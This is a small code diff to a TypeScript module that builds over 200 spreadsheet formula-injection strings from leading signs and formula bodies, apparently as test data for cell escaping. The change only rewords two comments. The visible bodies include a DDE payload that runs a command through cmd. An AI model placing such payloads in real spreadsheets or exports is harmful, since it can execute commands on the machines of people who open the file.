@@ -1,6 +1,6 @@
 const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠']
 
-/** What runs, fetches, or begins another cell, behind a sign that starts a formula. */
+/** Texts that execute, fetch, or start another cell, after a sign that starts a formula. */
 const bodies = [
   '1+1',
   "1+1+cmd|' /C calc'!A0",
@@ -21,5 +21,5 @@ const bodies = [
   '0',
 ]
 
-/** Over 200 texts that a spreadsheet would run when they stood in a cell as they are. */
+/** Over 200 texts that a spreadsheet would execute in an unescaped cell. */
 export const formulaPayloads: readonly string[] = signs.flatMap((sign) => bodies.map((body) => sign + body))
